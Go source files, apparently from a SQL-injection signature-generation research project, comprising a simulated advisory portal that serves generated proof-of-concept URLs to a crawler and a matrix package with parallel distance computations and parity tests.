	entries := make([]Entry, count)
	for i := range entries {
		nSamples := 1 + i%4
		samples := make([]string, nSamples)
		for s := range samples {
			req := gen.Sample().Request
			samples[s] = "http://" + req.Host + req.URL()
		}
		e := Entry{
			ID:        1000 + i,
			Title:     fmt.Sprintf("SQL injection vulnerability #%d", 1000+i),
			Published: fmt.Sprintf("2012-%02d-%02d", 4+i%3, 1+i%28),
			Samples:   samples,
		}
		if i < len(knownCVEs) {
			e.CVE = knownCVEs[i].cve
			e.Title = knownCVEs[i].title
			e.Published = fmt.Sprintf("2012-07-%02d", 1+i)
		}
		entries[i] = e
	}
	return entries
}

// FaultyHandler returns the portal's handler wrapped in a fault injector,
// so a portal can simulate the degraded public sites the paper crawled:
// 500s, rate limits, hangs, resets, truncated and garbled pages, all on a
// deterministic seeded schedule (see internal/faultify).
func (p *Portal) FaultyHandler(inj *faultify.Injector) http.Handler {
	return inj.Wrap(p.Handler())
}

// Handler returns the portal's HTTP handler.
func (p *Portal) Handler() http.Handler {
	mux := http.NewServeMux()
	switch p.Style {
	case StyleAPI:
		mux.HandleFunc("/api/search", p.apiSearch)
	case StyleForum:
		mux.HandleFunc("/", p.forumIndex)
		mux.HandleFunc("/thread/", p.forumThread)
	default:
		mux.HandleFunc("/", p.htmlIndex)
		mux.HandleFunc("/advisory/", p.htmlAdvisory)
	}
	return mux
}

// htmlIndex serves the paginated listing: /?page=N.
func (p *Portal) htmlIndex(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/" {
		http.NotFound(w, r)
		return
	}
	page, _ := strconv.Atoi(r.URL.Query().Get("page"))
	if page < 0 {
		page = 0
	}
	start := page * p.PageSize
	if start >= len(p.entries) {
		fmt.Fprintf(w, "<html><body><h1>%s</h1><p>No more entries.</p></body></html>", p.Name)
		return
	}
	end := start + p.PageSize
	if end > len(p.entries) {
		end = len(p.entries)
	}
	var b strings.Builder
	fmt.Fprintf(&b, "<html><body><h1>%s advisories</h1><ul>", p.Name)
	for _, e := range p.entries[start:end] {
		fmt.Fprintf(&b, `<li><a href="/advisory/%d">%s</a> (%s)</li>`, e.ID, e.Title, e.Published)
	}
	b.WriteString("</ul>")
	if end < len(p.entries) {
		fmt.Fprintf(&b, `<a href="/?page=%d">next page</a>`, page+1)
	}
	b.WriteString("</body></html>")
	_, _ = w.Write([]byte(b.String()))
}

// htmlAdvisory serves an advisory detail page with its PoC samples in a
// <pre> block, one URL per line — the format the crawler extracts from.
func (p *Portal) htmlAdvisory(w http.ResponseWriter, r *http.Request) {
	idStr := strings.TrimPrefix(r.URL.Path, "/advisory/")
	id, err := strconv.Atoi(idStr)
	if err != nil {
		http.NotFound(w, r)
		return
	}
	for _, e := range p.entries {
		if e.ID != id {
			continue
		}
		var b strings.Builder
		fmt.Fprintf(&b, "<html><body><h1>%s</h1>", e.Title)
		if e.CVE != "" {
			fmt.Fprintf(&b, "<p>CVE: %s</p>", e.CVE)
		}
		fmt.Fprintf(&b, "<p>Published: %s</p><h2>Proof of concept</h2><pre class=\"poc\">\n", e.Published)
		for _, s := range e.Samples {
			b.WriteString(htmlEscape(s))
			b.WriteString("\n")
		}
		b.WriteString("</pre></body></html>")
		_, _ = w.Write([]byte(b.String()))
		return
	}
	http.NotFound(w, r)
}

// apiSearch serves the OSVDB-style JSON API: /api/search?offset=N&limit=M.
func (p *Portal) apiSearch(w http.ResponseWriter, r *http.Request) {
	offset, _ := strconv.Atoi(r.URL.Query().Get("offset"))
	limit, _ := strconv.Atoi(r.URL.Query().Get("limit"))
	if limit <= 0 || limit > 100 {
		limit = p.PageSize
	}
	if offset < 0 {
		offset = 0
	}
	type response struct {
		Total   int     `json:"total"`
		Offset  int     `json:"offset"`
		Results []Entry `json:"results"`
		Next    *int    `json:"next,omitempty"`
	}
	resp := response{Total: len(p.entries), Offset: offset}
	if offset < len(p.entries) {
		end := offset + limit
		if end > len(p.entries) {
			end = len(p.entries)
		}
		resp.Results = p.entries[offset:end]
		if end < len(p.entries) {
			resp.Next = &end
		}
	}
	w.Header().Set("Content-Type", "application/json")
	if err := json.NewEncoder(w).Encode(resp); err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}

func htmlEscape(s string) string {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;")
	return r.Replace(s)
}

// forumIndex lists discussion threads, one per entry.
func (p *Portal) forumIndex(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/" {
		http.NotFound(w, r)
		return
	}
	var b strings.Builder
	fmt.Fprintf(&b, "<html><body><h1>%s — full disclosure list</h1><ul>", p.Name)
	for _, e := range p.entries {
		fmt.Fprintf(&b, `<li><a href="/thread/%d">[SQLi] %s</a> (%d replies)</li>`, e.ID, e.Title, len(e.Samples))
	}
	b.WriteString("</ul></body></html>")
	_, _ = w.Write([]byte(b.String()))
}

// forumThread renders one discussion: an opening post plus replies, each
// reply quoting one PoC URL in a <code> block.
func (p *Portal) forumThread(w http.ResponseWriter, r *http.Request) {
	idStr := strings.TrimPrefix(r.URL.Path, "/thread/")
	id, err := strconv.Atoi(idStr)
	if err != nil {
		http.NotFound(w, r)
		return
	}
	for _, e := range p.entries {
		if e.ID != id {
			continue
		}
		var b strings.Builder
		fmt.Fprintf(&b, "<html><body><h1>[SQLi] %s</h1>", e.Title)
		fmt.Fprintf(&b, "<div class=\"post\"><p>Found this in the wild (%s). Anyone else seeing it?</p></div>", e.Published)
		for i, s := range e.Samples {
			fmt.Fprintf(&b, "<div class=\"post\"><p>reply %d: works for me with</p><code>%s</code></div>", i+1, htmlEscape(s))
		}
		b.WriteString("</body></html>")
		_, _ = w.Write([]byte(b.String()))
		return
	}
	http.NotFound(w, r)
}
