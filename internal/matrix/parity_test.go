package matrix

import (
	"math"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

// parityCase is a randomly generated dense/CSR pair over the same values,
// produced by Generate so testing/quick can drive the parity properties.
type parityCase struct {
	dense  *Dense
	sparse *Sparse
	rng    *rand.Rand
}

// Generate implements quick.Generator: a small random count matrix with
// paper-like sparsity (~85% zeros), plus a seeded RNG for derived choices
// (vectors, index subsets) so each property stays deterministic per case.
func (parityCase) Generate(r *rand.Rand, size int) reflect.Value {
	rows := 1 + r.Intn(12)
	cols := 1 + r.Intn(15)
	d := MustNew(rows, cols)
	for i := 0; i < rows; i++ {
		for j := 0; j < cols; j++ {
			if r.Float64() < 0.2 {
				d.Set(i, j, float64(1+r.Intn(9)))
			}
		}
	}
	c := parityCase{dense: d, sparse: NewSparseFromDense(d), rng: rand.New(rand.NewSource(r.Int63()))}
	return reflect.ValueOf(c)
}

func (c parityCase) randVec() []float64 {
	v := make([]float64, c.dense.Cols())
	for j := range v {
		v[j] = c.rng.NormFloat64()
	}
	return v
}

func (c parityCase) randIdx(n int) []int {
	k := 1 + c.rng.Intn(n)
	idx := make([]int, k)
	for i := range idx {
		idx[i] = c.rng.Intn(n) // duplicates and any order allowed
	}
	return idx
}

func quickCheck(t *testing.T, f interface{}) {
	t.Helper()
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestParityRowDot(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		v := c.randVec()
		for i := 0; i < c.dense.Rows(); i++ {
			if c.dense.RowDot(i, v) != c.sparse.RowDot(i, v) {
				return false
			}
		}
		return true
	})
}

func TestParityRowSquaredEuclidean(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		for i := 0; i < c.dense.Rows(); i++ {
			for j := 0; j < c.dense.Rows(); j++ {
				if c.dense.RowSquaredEuclidean(i, j) != c.sparse.RowSquaredEuclidean(i, j) {
					return false
				}
			}
		}
		return true
	})
}

func TestParityColumnStats(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		ds, ss := c.dense.ColumnStats(), c.sparse.ColumnStats()
		for j := range ds.Mean {
			if ds.Mean[j] != ss.Mean[j] || ds.Std[j] != ss.Std[j] {
				return false
			}
		}
		return true
	})
}

func TestParitySelectRows(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		idx := c.randIdx(c.dense.Rows())
		dm, derr := c.dense.SelectRows(idx)
		sm, serr := c.sparse.SelectRows(idx)
		if (derr == nil) != (serr == nil) {
			return false
		}
		if derr != nil {
			return true
		}
		return matricesEqual(dm, sm)
	})
}

func TestParitySelectCols(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		idx := c.randIdx(c.dense.Cols())
		dm, derr := c.dense.SelectCols(idx)
		sm, serr := c.sparse.SelectCols(idx)
		if (derr == nil) != (serr == nil) {
			return false
		}
		if derr != nil {
			return true
		}
		return matricesEqual(dm, sm)
	})
}

func TestParitySelectErrors(t *testing.T) {
	d := MustNew(3, 4)
	s := NewSparseFromDense(d)
	for _, idx := range [][]int{{-1}, {3}, {0, 1, 5}} {
		if _, err := s.SelectRows(idx); err == nil {
			t.Errorf("sparse SelectRows(%v): want error", idx)
		}
	}
	for _, idx := range [][]int{{-1}, {4}} {
		if _, err := s.SelectCols(idx); err == nil {
			t.Errorf("sparse SelectCols(%v): want error", idx)
		}
	}
}

func TestParityPairwiseDistances(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		if c.dense.Rows() < 2 {
			return true
		}
		dd := PairwiseDistances(c.dense)
		sd := PairwiseDistances(c.sparse)
		for i := 0; i < c.dense.Rows(); i++ {
			for j := i + 1; j < c.dense.Rows(); j++ {
				a := dd.At(i, j)
				b := sd.At(i, j)
				// Distances route through the same RowSquaredEuclidean
				// merge order, so even the sqrt inputs are identical.
				if a != b {
					return false
				}
			}
		}
		return true
	})
}

func TestParityStandardizedColumnDistances(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		if c.dense.Cols() < 2 {
			return true
		}
		st := c.dense.ColumnStats()
		virt, err := StandardizedColumnDistances(c.sparse, st, nil, nil)
		if err != nil {
			return false
		}
		// Reference: materialize the standardized matrix and measure the
		// column distances directly.
		std, _ := c.dense.Standardize()
		cols := std.Cols()
		for a := 0; a < cols; a++ {
			for b := a + 1; b < cols; b++ {
				var d2 float64
				for i := 0; i < std.Rows(); i++ {
					diff := std.At(i, a) - std.At(i, b)
					d2 += diff * diff
				}
				want := math.Sqrt(d2)
				got := virt.At(a, b)
				// sqrt turns the expansion's ~1e-14 cancellation residue
				// into ~1e-7 when the true distance is 0 (duplicate
				// columns), so the tolerance is looser than for the exact
				// parity properties above.
				if math.Abs(got-want) > 1e-6*(1+want) {
					return false
				}
			}
		}
		return true
	})
}

func TestParityBinaryizeAndSparsity(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		dz, do := c.dense.Sparsity()
		sz, so := c.sparse.Sparsity()
		if dz != sz || do != so {
			return false
		}
		c.dense.Binaryize()
		c.sparse.Binaryize()
		return matricesEqual(c.dense, c.sparse)
	})
}

func TestParityBuilder(t *testing.T) {
	quickCheck(t, func(c parityCase) bool {
		for _, sparse := range []bool{false, true} {
			b := NewBuilder(c.dense.Cols(), sparse)
			for i := 0; i < c.dense.Rows(); i++ {
				if i%2 == 0 {
					b.AppendRowOf(c.sparse, i)
				} else {
					b.AppendDense(c.dense.Row(i))
				}
			}
			if !matricesEqual(b.Build(), c.dense) {
				return false
			}
		}
		return true
	})
}

func matricesEqual(a, b RowMatrix) bool {
	if a.Rows() != b.Rows() || a.Cols() != b.Cols() {
		return false
	}
	for i := 0; i < a.Rows(); i++ {
		for j := 0; j < a.Cols(); j++ {
			if a.At(i, j) != b.At(i, j) {
				return false
			}
		}
	}
	return true
}
