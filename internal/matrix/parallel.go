package matrix

import (
	"fmt"
	"math"
	"runtime"
	"sync"
)

// ResolveWorkers maps a Parallelism-style knob to a concrete worker count
// for a job of the given size: workers <= 0 means "use every core"
// (GOMAXPROCS), and the result is clamped to the number of work items so
// no goroutine is ever spawned with nothing to do. The result is always
// at least 1.
func ResolveWorkers(workers, items int) int {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > items {
		workers = items
	}
	if workers < 1 {
		workers = 1
	}
	return workers
}

// condensedRowStart returns the offset of row i's first entry in the
// condensed layout over n items: entry (i, j) for i < j lives at
// i*(2n-i-1)/2 + (j-i-1), so row i's n-1-i entries are contiguous
// starting at i*(2n-i-1)/2.
func condensedRowStart(n, i int) int {
	return i * (2*n - i - 1) / 2
}

// triangleSplit partitions the n condensed rows into parts contiguous
// ranges balanced by pair count (row i carries n-1-i pairs, so equal row
// counts would leave the first worker with almost all the work). It
// returns parts+1 non-decreasing boundaries with bounds[0] == 0 and
// bounds[parts] == n; worker g owns rows [bounds[g], bounds[g+1]).
func triangleSplit(n, parts int) []int {
	bounds := make([]int, parts+1)
	total := n * (n - 1) / 2
	row, acc := 0, 0
	for g := 1; g < parts; g++ {
		target := total * g / parts
		for row < n && acc < target {
			acc += n - 1 - row
			row++
		}
		bounds[g] = row
	}
	bounds[parts] = n
	return bounds
}

// PairwiseDistancesParallel is PairwiseDistances fanned out over a worker
// pool. The condensed rows are partitioned into contiguous ranges balanced
// by pair count; each worker fills only its own disjoint region of the
// condensed buffer with the exact same per-entry arithmetic as the serial
// pass, so the result is bit-identical to PairwiseDistances for any worker
// count. workers <= 0 means GOMAXPROCS; workers == 1 is the serial path.
func PairwiseDistancesParallel(m RowMatrix, workers int) *Condensed {
	n := m.Rows()
	workers = ResolveWorkers(workers, n-1)
	if workers <= 1 || n < 3 {
		return PairwiseDistances(m)
	}
	c := NewCondensed(n)
	bounds := triangleSplit(n, workers)
	d, dense := m.(*Dense)
	var wg sync.WaitGroup
	for g := 0; g < workers; g++ {
		lo, hi := bounds[g], bounds[g+1]
		if lo >= hi {
			continue
		}
		wg.Add(1)
		go func(lo, hi int) {
			defer wg.Done()
			pos := condensedRowStart(n, lo)
			if dense { // fast path: hoist the row slice fetch
				for i := lo; i < hi; i++ {
					ri := d.Row(i)
					for j := i + 1; j < n; j++ {
						c.data[pos] = math.Sqrt(SquaredEuclidean(ri, d.Row(j)))
						pos++
					}
				}
				return
			}
			for i := lo; i < hi; i++ {
				for j := i + 1; j < n; j++ {
					c.data[pos] = math.Sqrt(m.RowSquaredEuclidean(i, j))
					pos++
				}
			}
		}(lo, hi)
	}
	wg.Wait()
	return c
}

// StandardizedColumnDistancesParallel is StandardizedColumnDistances fanned
// out over a worker pool, bit-identical to the serial function for any
// worker count. Determinism comes from ownership partitioning rather than
// tiled reduction: combining per-tile partial sums would reorder float
// additions, so instead every worker scans all selected rows in order but
// accumulates only the entries it owns. Worker w owns selected column k
// when k % workers == w, which covers sum[k], sumsq[k], and every Gram
// pair whose first-iterated element is k. Because both backings emit row
// nonzeros in ascending global-column order, the first-iterated element of
// any column pair is the same in every row, so each Gram entry has exactly
// one owner and its accumulation order (row-major) matches the serial pass
// exactly. The output distance loop is independent per entry and is
// partitioned over contiguous condensed rows. workers <= 0 means
// GOMAXPROCS; workers == 1 delegates to the serial implementation.
func StandardizedColumnDistancesParallel(m RowMatrix, st ColStats, rowIdx, colIdx []int, workers int) (*Condensed, error) {
	nRows := m.Rows()
	if rowIdx != nil {
		nRows = len(rowIdx)
	}
	workers = ResolveWorkers(workers, nRows)
	if workers <= 1 {
		return StandardizedColumnDistances(m, st, rowIdx, colIdx)
	}
	if len(st.Mean) != m.Cols() || len(st.Std) != m.Cols() {
		return nil, fmt.Errorf("matrix: column stats over %d columns, matrix has %d", len(st.Mean), m.Cols())
	}
	if colIdx == nil {
		colIdx = make([]int, m.Cols())
		for j := range colIdx {
			colIdx[j] = j
		}
	}
	d := len(colIdx)
	local := make([]int, m.Cols())
	for j := range local {
		local[j] = -1
	}
	for k, j := range colIdx {
		if j < 0 || j >= m.Cols() {
			return nil, fmt.Errorf("matrix: select column %d out of range %d", j, m.Cols())
		}
		local[j] = k
	}
	// The serial pass reports the first out-of-range row in rowIdx order;
	// validating up front preserves that error exactly.
	for _, i := range rowIdx {
		if i < 0 || i >= m.Rows() {
			return nil, fmt.Errorf("matrix: select row %d out of range %d", i, m.Rows())
		}
	}

	sum := make([]float64, d)
	sumsq := make([]float64, d)
	gram := make([]float64, d*d) // upper triangle used

	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			selCols := make([]int, 0, d)
			selVals := make([]float64, 0, d)
			accumulate := func(i int) {
				selCols, selVals = selCols[:0], selVals[:0]
				cols, vals := m.RowNonZeros(i)
				if cols == nil {
					for j, v := range vals {
						if v != 0 && local[j] >= 0 {
							selCols = append(selCols, local[j])
							selVals = append(selVals, v)
						}
					}
				} else {
					for k, j := range cols {
						if local[j] >= 0 {
							selCols = append(selCols, local[j])
							selVals = append(selVals, vals[k])
						}
					}
				}
				for k, lj := range selCols {
					if lj%workers != w { // not ours: another worker owns this entry
						continue
					}
					v := selVals[k]
					sum[lj] += v
					sumsq[lj] += v * v
					for k2 := k + 1; k2 < len(selCols); k2++ {
						a, b := lj, selCols[k2]
						if a > b {
							a, b = b, a
						}
						gram[a*d+b] += v * selVals[k2]
					}
				}
			}
			if rowIdx != nil {
				for _, i := range rowIdx {
					accumulate(i)
				}
			} else {
				for i := 0; i < m.Rows(); i++ {
					accumulate(i)
				}
			}
		}(w)
	}
	wg.Wait()

	n := float64(nRows)
	selfSq := make([]float64, d)
	for k, j := range colIdx {
		if st.Std[j] == 0 {
			continue
		}
		mu, sd := st.Mean[j], st.Std[j]
		selfSq[k] = (sumsq[k] - 2*mu*sum[k] + n*mu*mu) / (sd * sd)
	}
	out := NewCondensed(d)
	outWorkers := ResolveWorkers(workers, d-1)
	if outWorkers <= 1 || d < 3 {
		fillStandardizedDistances(out, colIdx, st, sum, gram, selfSq, n, 0, d)
		return out, nil
	}
	bounds := triangleSplit(d, outWorkers)
	var owg sync.WaitGroup
	for g := 0; g < outWorkers; g++ {
		lo, hi := bounds[g], bounds[g+1]
		if lo >= hi {
			continue
		}
		owg.Add(1)
		go func(lo, hi int) {
			defer owg.Done()
			fillStandardizedDistances(out, colIdx, st, sum, gram, selfSq, n, lo, hi)
		}(lo, hi)
	}
	owg.Wait()
	return out, nil
}

// fillStandardizedDistances writes condensed rows [lo, hi) of the output
// distance matrix from the accumulated moments, using the exact per-entry
// expressions of the serial StandardizedColumnDistances loop.
func fillStandardizedDistances(out *Condensed, colIdx []int, st ColStats, sum, gram, selfSq []float64, n float64, lo, hi int) {
	d := len(colIdx)
	pos := condensedRowStart(d, lo)
	for a := lo; a < hi; a++ {
		ja := colIdx[a]
		for b := a + 1; b < d; b++ {
			jb := colIdx[b]
			var cross float64
			if st.Std[ja] != 0 && st.Std[jb] != 0 {
				muA, muB := st.Mean[ja], st.Mean[jb]
				cross = (gram[a*d+b] - muA*sum[b] - muB*sum[a] + n*muA*muB) / (st.Std[ja] * st.Std[jb])
			}
			d2 := selfSq[a] + selfSq[b] - 2*cross
			if d2 < 0 { // floating-point cancellation
				d2 = 0
			}
			out.data[pos] = math.Sqrt(d2)
			pos++
		}
	}
}
