// Package matrix provides the linear-algebra substrate used by the pSigene
// pipeline: row-major matrices with the column statistics, standardization,
// and pairwise-distance operations that the biclustering and
// logistic-regression stages are built on.
//
// The matrices handled here are sample×feature matrices: rows are attack (or
// benign) samples and columns are feature counts. The paper's corpus is
// ~85% zeros, so the pipeline's working representation is the compressed
// sparse row Sparse type; Dense remains as the reference implementation,
// and both are used through the shared RowMatrix interface so every
// consumer is backing-agnostic and the two can be parity-tested against
// each other.
package matrix

import (
	"errors"
	"fmt"
	"math"
)

// Dense is a row-major dense matrix of float64 values.
//
// The zero value is an empty matrix. Use New or NewFromRows to build one.
type Dense struct {
	rows, cols int
	data       []float64 // len == rows*cols, row-major
}

var _ RowMatrix = (*Dense)(nil)

// New returns a rows×cols matrix of zeros.
func New(rows, cols int) (*Dense, error) {
	if rows < 0 || cols < 0 {
		return nil, fmt.Errorf("matrix: invalid dimensions %dx%d", rows, cols)
	}
	return &Dense{rows: rows, cols: cols, data: make([]float64, rows*cols)}, nil
}

// MustNew is New for dimensions known to be valid; it panics on error and is
// intended for tests and literals.
func MustNew(rows, cols int) *Dense {
	m, err := New(rows, cols)
	if err != nil {
		panic(err)
	}
	return m
}

// NewFromRows builds a matrix from a slice of equal-length rows. The data is
// copied, so the caller keeps ownership of rows.
func NewFromRows(rows [][]float64) (*Dense, error) {
	if len(rows) == 0 {
		return &Dense{}, nil
	}
	cols := len(rows[0])
	m := &Dense{rows: len(rows), cols: cols, data: make([]float64, 0, len(rows)*cols)}
	for i, r := range rows {
		if len(r) != cols {
			return nil, fmt.Errorf("matrix: row %d has %d columns, want %d", i, len(r), cols)
		}
		m.data = append(m.data, r...)
	}
	return m, nil
}

// Rows returns the number of rows.
func (m *Dense) Rows() int { return m.rows }

// Cols returns the number of columns.
func (m *Dense) Cols() int { return m.cols }

// At returns the element at (i, j).
func (m *Dense) At(i, j int) float64 {
	m.boundsCheck(i, j)
	return m.data[i*m.cols+j]
}

// Set assigns the element at (i, j).
func (m *Dense) Set(i, j int, v float64) {
	m.boundsCheck(i, j)
	m.data[i*m.cols+j] = v
}

func (m *Dense) boundsCheck(i, j int) {
	if i < 0 || i >= m.rows || j < 0 || j >= m.cols {
		panic(fmt.Sprintf("matrix: index (%d,%d) out of range %dx%d", i, j, m.rows, m.cols))
	}
}

// Row returns a view of row i. The returned slice aliases the matrix
// storage; mutating it mutates the matrix.
func (m *Dense) Row(i int) []float64 {
	if i < 0 || i >= m.rows {
		panic(fmt.Sprintf("matrix: row %d out of range %d", i, m.rows))
	}
	return m.data[i*m.cols : (i+1)*m.cols]
}

// RowCopy returns a copy of row i.
func (m *Dense) RowCopy(i int) []float64 {
	r := m.Row(i)
	out := make([]float64, len(r))
	copy(out, r)
	return out
}

// RowNonZeros implements RowMatrix with the dense convention: cols is nil
// and vals is the full row (zeros included), aliasing the matrix storage.
func (m *Dense) RowNonZeros(i int) (cols []int, vals []float64) {
	return nil, m.Row(i)
}

// RowDot returns row i · v.
func (m *Dense) RowDot(i int, v []float64) float64 {
	return Dot(m.Row(i), v)
}

// RowSquaredEuclidean returns the squared Euclidean distance between rows
// i and j.
func (m *Dense) RowSquaredEuclidean(i, j int) float64 {
	return SquaredEuclidean(m.Row(i), m.Row(j))
}

// Binaryize clamps every nonzero cell to 1 in place.
func (m *Dense) Binaryize() {
	for k, v := range m.data {
		if v != 0 {
			m.data[k] = 1
		}
	}
}

// Col returns a copy of column j.
func (m *Dense) Col(j int) []float64 {
	if j < 0 || j >= m.cols {
		panic(fmt.Sprintf("matrix: column %d out of range %d", j, m.cols))
	}
	out := make([]float64, m.rows)
	for i := 0; i < m.rows; i++ {
		out[i] = m.data[i*m.cols+j]
	}
	return out
}

// Clone returns a deep copy of the matrix.
func (m *Dense) Clone() *Dense {
	out := &Dense{rows: m.rows, cols: m.cols, data: make([]float64, len(m.data))}
	copy(out.data, m.data)
	return out
}

// SelectRows returns a new matrix containing the given rows, in order.
func (m *Dense) SelectRows(idx []int) (RowMatrix, error) {
	out := &Dense{rows: len(idx), cols: m.cols, data: make([]float64, 0, len(idx)*m.cols)}
	for _, i := range idx {
		if i < 0 || i >= m.rows {
			return nil, fmt.Errorf("matrix: select row %d out of range %d", i, m.rows)
		}
		out.data = append(out.data, m.Row(i)...)
	}
	return out, nil
}

// SelectCols returns a new matrix containing the given columns, in order.
func (m *Dense) SelectCols(idx []int) (RowMatrix, error) {
	for _, j := range idx {
		if j < 0 || j >= m.cols {
			return nil, fmt.Errorf("matrix: select column %d out of range %d", j, m.cols)
		}
	}
	out := &Dense{rows: m.rows, cols: len(idx), data: make([]float64, m.rows*len(idx))}
	for i := 0; i < m.rows; i++ {
		src := m.Row(i)
		dst := out.data[i*len(idx) : (i+1)*len(idx)]
		for k, j := range idx {
			dst[k] = src[j]
		}
	}
	return out, nil
}

// Sparsity returns the fraction of cells equal to zero and the fraction
// equal to one. The paper reports ~85% zeros and ~6% ones for the 30,000×159
// training matrix; these are the numbers this method reproduces.
func (m *Dense) Sparsity() (zeros, ones float64) {
	if len(m.data) == 0 {
		return 0, 0
	}
	var z, o int
	for _, v := range m.data {
		switch v {
		case 0:
			z++
		case 1:
			o++
		}
	}
	n := float64(len(m.data))
	return float64(z) / n, float64(o) / n
}

// ColStats holds per-column mean and (population) standard deviation.
type ColStats struct {
	Mean, Std []float64
}

// ColumnStats computes the mean and population standard deviation of every
// column. Dense and Sparse share one accumulation (over nonzero cells, the
// zero cells' variance contribution folded in per column) so the two
// backings agree bit for bit.
func (m *Dense) ColumnStats() ColStats { return columnStats(m) }

// Standardize returns a new matrix with every column z-score standardized:
// the column mean subtracted and the result divided by the column standard
// deviation. Columns with zero standard deviation become all zeros. This is
// the transformation used for the Figure 2 heat map.
func (m *Dense) Standardize() (*Dense, ColStats) {
	st := m.ColumnStats()
	out := m.Clone()
	for i := 0; i < out.rows; i++ {
		r := out.Row(i)
		for j := range r {
			if st.Std[j] == 0 {
				r[j] = 0
				continue
			}
			r[j] = (r[j] - st.Mean[j]) / st.Std[j]
		}
	}
	return out, st
}

// ErrDimensionMismatch is returned when two vectors of different lengths are
// combined.
var ErrDimensionMismatch = errors.New("matrix: dimension mismatch")

// Euclidean returns the Euclidean (L2) distance between two equal-length
// vectors.
func Euclidean(a, b []float64) (float64, error) {
	if len(a) != len(b) {
		return 0, ErrDimensionMismatch
	}
	var s float64
	for i := range a {
		d := a[i] - b[i]
		s += d * d
	}
	return math.Sqrt(s), nil
}

// SquaredEuclidean returns the squared Euclidean distance between two
// equal-length vectors. It panics if the lengths differ; it is the hot-path
// variant used inside clustering loops where lengths are already validated.
func SquaredEuclidean(a, b []float64) float64 {
	if len(a) != len(b) {
		panic("matrix: dimension mismatch")
	}
	var s float64
	for i := range a {
		d := a[i] - b[i]
		s += d * d
	}
	return s
}

// Dot returns the dot product of two equal-length vectors.
func Dot(a, b []float64) float64 {
	if len(a) != len(b) {
		panic("matrix: dimension mismatch")
	}
	var s float64
	for i := range a {
		s += a[i] * b[i]
	}
	return s
}

// Norm2 returns the L2 norm of v.
func Norm2(v []float64) float64 {
	return math.Sqrt(Dot(v, v))
}

// AXPY computes y += alpha*x in place.
func AXPY(alpha float64, x, y []float64) {
	if len(x) != len(y) {
		panic("matrix: dimension mismatch")
	}
	for i := range x {
		y[i] += alpha * x[i]
	}
}

// Scale multiplies every element of v by alpha in place.
func Scale(alpha float64, v []float64) {
	for i := range v {
		v[i] *= alpha
	}
}

// PairwiseDistances returns the condensed upper-triangular Euclidean
// distance matrix over the rows of m: the returned Condensed holds
// d(i,j) for all i<j. The condensed layout is written sequentially in one
// pass (row i's entries are contiguous), so no per-cell index arithmetic
// or bounds checks are paid. For the Sparse backing each pair costs
// O(nnz_i + nnz_j) instead of O(cols).
func PairwiseDistances(m RowMatrix) *Condensed {
	n := m.Rows()
	c := NewCondensed(n)
	pos := 0
	if d, ok := m.(*Dense); ok { // fast path: hoist the row slice fetch
		for i := 0; i < n; i++ {
			ri := d.Row(i)
			for j := i + 1; j < n; j++ {
				c.data[pos] = math.Sqrt(SquaredEuclidean(ri, d.Row(j)))
				pos++
			}
		}
		return c
	}
	for i := 0; i < n; i++ {
		for j := i + 1; j < n; j++ {
			c.data[pos] = math.Sqrt(m.RowSquaredEuclidean(i, j))
			pos++
		}
	}
	return c
}

// Condensed is a condensed (upper-triangular, no diagonal) symmetric
// distance matrix over n items, stored in n*(n-1)/2 float64s.
type Condensed struct {
	n    int
	data []float64
}

// NewCondensed returns a zeroed condensed distance matrix over n items,
// pre-sized to exactly n*(n-1)/2 entries. n = 0 and n = 1 are valid edge
// cases (a dendrogram over one leaf has no pairs) and yield an empty
// matrix on which At and Set always panic; negative n panics immediately
// with a clear message.
func NewCondensed(n int) *Condensed {
	if n < 0 {
		panic(fmt.Sprintf("matrix: condensed distance matrix size %d is negative", n))
	}
	return &Condensed{n: n, data: make([]float64, n*(n-1)/2)}
}

// N returns the number of items.
func (c *Condensed) N() int { return c.n }

func (c *Condensed) index(i, j int) int {
	if c.n < 2 {
		panic(fmt.Sprintf("matrix: condensed matrix over %d item(s) has no pairs", c.n))
	}
	if i == j || i < 0 || j < 0 || i >= c.n || j >= c.n {
		panic(fmt.Sprintf("matrix: condensed index (%d,%d) invalid for n=%d", i, j, c.n))
	}
	if i > j {
		i, j = j, i
	}
	// Row i starts at offset i*n - i*(i+1)/2 - i - ... Standard condensed layout:
	// index(i,j) = i*(2n-i-1)/2 + (j-i-1) for i<j.
	return i*(2*c.n-i-1)/2 + (j - i - 1)
}

// At returns d(i, j). At(i, i) is not representable and panics.
func (c *Condensed) At(i, j int) float64 { return c.data[c.index(i, j)] }

// Set assigns d(i, j) = d(j, i) = v.
func (c *Condensed) Set(i, j int, v float64) { c.data[c.index(i, j)] = v }

// Values returns the underlying condensed storage in row-major (i<j) order.
// The slice aliases internal storage.
func (c *Condensed) Values() []float64 { return c.data }
