package matrix

import (
	"testing"
)

// fixedWorkerCounts covers the serial path (1), a small pool (2), more
// workers than most generated cases have rows (8), and the GOMAXPROCS
// default (0).
var fixedWorkerCounts = []int{1, 2, 8, 0}

func TestTriangleSplitCoversAllRows(t *testing.T) {
	for n := 0; n <= 40; n++ {
		for parts := 1; parts <= 9; parts++ {
			bounds := triangleSplit(n, parts)
			if len(bounds) != parts+1 {
				t.Fatalf("triangleSplit(%d, %d): %d bounds, want %d", n, parts, len(bounds), parts+1)
			}
			if bounds[0] != 0 || bounds[parts] != n {
				t.Fatalf("triangleSplit(%d, %d) = %v: want 0..%d", n, parts, bounds, n)
			}
			for g := 0; g < parts; g++ {
				if bounds[g] > bounds[g+1] {
					t.Fatalf("triangleSplit(%d, %d) = %v: decreasing bounds", n, parts, bounds)
				}
			}
		}
